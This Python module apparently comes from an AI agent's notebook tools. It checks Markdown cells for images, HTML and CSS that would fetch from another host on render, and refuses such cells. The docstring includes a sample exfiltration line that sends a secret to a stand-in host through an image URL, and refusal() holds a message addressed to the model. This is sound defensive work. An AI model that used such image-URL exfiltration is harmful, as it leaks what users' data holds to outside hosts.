"""What a Markdown cell would load from elsewhere by itself, the moment the notebook renders it.

JupyterLab renders Markdown cells through its sanitizer, which stops scripts but keeps images,
media and styles that load from any host: `![](https://host/?q=SECRET)` in a cell the agent wrote
would send what the model read to that host as soon as the cell shows. The notebook tools refuse
such a cell (the model can write a link instead, which loads nothing until the user clicks), as
the agent's own surfaces turn images into links (`jupyter/safe_html.py`).

The check reads the cell as the browser will, not with patterns over its text: Markdown parsed
(images, reference images, raw HTML), the HTML tokenized with entities decoded, CSS escapes
decoded, and each URL stripped as the URL parser strips it (leading and trailing controls and
spaces, tabs and newlines anywhere, backslashes as slashes). A load may stay only on the notebook's
own origin: a URL with no scheme that does not start with `//`. Where two readings of the text
could differ (another Markdown parser, JupyterLab taking math out first, what html.parser keeps as
comment or style text), every reading is checked.
"""

from __future__ import annotations

import re
from functools import cache
from html.parser import HTMLParser
from typing import Any

_SCHEME = re.compile(r"[a-zA-Z][a-zA-Z0-9+.\-]*:")
_STRIPPED = "".join(map(chr, range(0x21)))  # C0 controls and space, stripped at both ends
_TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")
_MATH = re.compile(r"\$|\\\\[(\[]|\\begin\{")
"""JupyterLab takes math out before Markdown parses the rest, which can change what is code."""
_IMAGE_SYNTAX = re.compile(r"!\[[^\]]*\]\(\s*<?([^)\s>]+)")
"""Image syntax this parser did not make an image of: another Markdown parser may."""
_CSS_ESCAPE = re.compile(r"\\(?:([0-9a-fA-F]{1,6})[ \t\r\n\f]?|(\r\n|[\n\f\r])|(.))", re.DOTALL)
_CSS_URL = re.compile(r"url\(\s*([^)]*)", re.IGNORECASE)
_CSS_STRING = re.compile(r""""([^"]*)"?|'([^']*)'?""")
_CSS_IMPORT = re.compile(
    r"""@import(?:\s|/\*.*?\*/)*(?:url\(\s*)?["']?([^"')\s;]*)""", re.IGNORECASE | re.DOTALL
)
_LOADING = frozenset({"src", "lowsrc", "dynsrc", "poster", "background", "data", "codebase"})
_SRCSETS = frozenset({"srcset", "imagesrcset"})
_HREFS = frozenset({"href", "xlink:href"})
_LINKS = frozenset({"a", "area"})  # their href loads nothing until it is clicked
_ANIMATIONS = frozenset({"animate", "set", "animatemotion", "animatetransform"})
_IMAGES = frozenset({"img", "image", "source", "input", "video", "picture"})
"""Elements that show an inline `data:image/...` as an image, which fetches nothing (SVG too)."""
_DOCUMENTS = frozenset(
    {"iframe", "frame", "object", "embed", "link", "script", "use", "feimage", "import"}
)
"""What loads a whole document or stylesheet, which can load more: not even a file beside the
notebook, which the agent could have written."""
_WORK = 16
"""Style, script and comment text is read again as HTML, up to this many times the text's length
(then refused): a bound on the work, linear in the text."""


def remote_loads(markdown: str) -> list[str]:
    """The URLs outside the server that rendering this Markdown would fetch, in order, once each."""
    scan = _Scan()
    for parser, prose in _readings(markdown):
        tokens = parser.parse(markdown)
        scan.html(parser.renderer.render(tokens, parser.options, {}))
        for text in [markdown] if prose else _prose(tokens):
            scan.html(text)  # HTML another parser may see where this one saw text
            scan.found += [("img", match.group(1)) for match in _IMAGE_SYNTAX.finditer(text)]
    return list(dict.fromkeys(url for context, url in scan.found if not _stays(context, url)))


def refusal(tool: str, urls: list[str]) -> str:
    """What the model reads when a Markdown cell it writes would load from elsewhere."""
    shown = ", ".join(urls[:5]) + (f" and {len(urls) - 5} more" if len(urls) > 5 else "")
    return (
        f"{tool}: a Markdown cell you write may not load anything from elsewhere by itself "
        f"({shown}): it would load as soon as the notebook shows the cell, and a URL can carry "
        "what was read. Nothing was changed. Write a link instead, e.g. [diagram](https://…), "
        "or save the image in the workspace and use its relative path"
    )


def _readings(markdown: str) -> list[tuple[Any, bool]]:
    """Markdown as CommonMark with tables reads it; with math, also with no code, HTML or
    autolinks, and the whole text as prose (math taken out may have held a code delimiter)."""
    if _MATH.search(markdown):
        return [(_parser(True), False), (_parser(False), True)]
    return [(_parser(True), False)]


def _prose(tokens: list[Any]) -> list[str]:
    """The text of each inline run, entities decoded, code spans left out."""
    return ["".join(c.content for c in t.children or [] if c.type == "text") for t in tokens]


def _stays(context: str, url: str) -> bool:
    """Whether loading `url` as `context` (a tag, `css` or `import`) stays on the notebook's origin."""
    url = _TAB_OR_NEWLINE.sub("", url.strip(_STRIPPED))
    if context in ("base", "meta"):
        return False  # a base changes what every relative URL means; a refresh navigates
    if context in _DOCUMENTS:
        return url == "" or url.startswith("#")
    if _SCHEME.match(url):
        return _inline_image(context, url)
    return not url.replace("\\", "/").startswith("//")


def _inline_image(context: str, url: str) -> bool:
    """`data:image/...` shown as an image; SVG only where it renders as an image (no fetches)."""
    if url[:5].lower() != "data:":
        return False
    media = url[5:].split(",")[0].split(";")[0].lower()
    if not media.startswith("image/"):
        return False
    return context in _IMAGES or (context == "css" and "svg" not in media)


def _css(text: str, *, strings: bool = True) -> list[tuple[str, str]]:
    """The URLs of CSS text (url(), @import, and with `strings` every string, as image-set's)."""
    text = _CSS_ESCAPE.sub(_css_unescape, text)
    found = [("import", match.group(1)) for match in _CSS_IMPORT.finditer(text)]
    found += [("css", match.group(1).strip().strip("\"'")) for match in _CSS_URL.finditer(text)]
    if strings:
        found += [("css", a or b) for a, b in _CSS_STRING.findall(text)]
    return found


def _css_unescape(match: re.Match[str]) -> str:
    code, newline, char = match.groups()
    if code:
        number = int(code, 16)
        return (
            chr(number) if 0 < number <= 0x10FFFF and not 0xD800 <= number <= 0xDFFF else "\ufffd"
        )
    return "" if newline else char


class _Scan(HTMLParser):
    """Every URL an HTML fragment makes the browser load, as (context, url) pairs."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str]] = []
        self._raw_text = False
        self._again: list[str] = []

    def html(self, text: str) -> None:
        """Scan a fragment, then what html.parser kept as style, script or comment text, or left
        unparsed, as HTML again (a browser may read it so); never `close()`, slow on such ends."""
        work, budget = [text], _WORK * len(text) + 4096
        while work and budget > 0:
            fragment = work.pop()
            budget -= len(fragment) + 1
            self.reset()
            self._raw_text, self._again = False, work
            self.feed(fragment)
            rest = self.rawdata  # an unclosed tag, comment, style…: dropped by a browser at the end
            if rest and self._raw_text:
                self.handle_data(rest)
            elif rest.startswith("<"):
                work.append(rest[1:])
        if work:
            self.found.append(("import", "(HTML nested too deeply to check)"))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, given in attrs:
            value = given or ""
            if name in _LOADING or (name in _HREFS and tag not in _LINKS):
                self.found.append((tag, value))
            elif name in _SRCSETS:
                parts = value.split() + re.split(r"[\s,]+", value)
                self.found += [("img", part.strip(",")) for part in parts]  # images, even on <link>
            elif name in ("to", "from", "by", "values") and tag in _ANIMATIONS:
                self.found += [(tag, part) for part in value.split(";")]
            elif name == "srcdoc":
                self._again.append(value)
            self.found += _css(value, strings=name == "style")
        if tag == "meta":
            self.found.append(("meta", dict(attrs).get("content") or "<meta>"))
        self._raw_text = tag in ("style", "script")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self._raw_text = False

    def handle_endtag(self, tag: str) -> None:
        self._raw_text = False

    def handle_data(self, data: str) -> None:
        if self._raw_text:
            self.found += _css(data)
            self._again.append(data)  # in SVG, <style> holds markup, not text

    def handle_comment(self, data: str) -> None:
        self._again.append(data)  # a browser may end a comment sooner (`--!>`, `<!-->`)

    def unknown_decl(self, data: str) -> None:
        self._again.append(data)  # in HTML, `<![CDATA[` ends at the first `>`

    def handle_decl(self, decl: str) -> None:
        self._again.append(decl)

    def handle_pi(self, data: str) -> None:
        self._again.append(data)


@cache
def _parser(code: bool) -> Any:
    """CommonMark with tables (as GitHub's, which JupyterLab's parser follows), keeping every
    image's URL as written (entities decoded), including those markdown-it would not link."""
    from markdown_it import MarkdownIt

    parser: Any = MarkdownIt("commonmark", {"html": True}).enable("table")
    if not code:
        parser.disable(["code", "fence", "backticks", "html_block", "html_inline", "autolink"])
    parser.validateLink = lambda url: True
    parser.normalizeLink = lambda url: url
    return parser
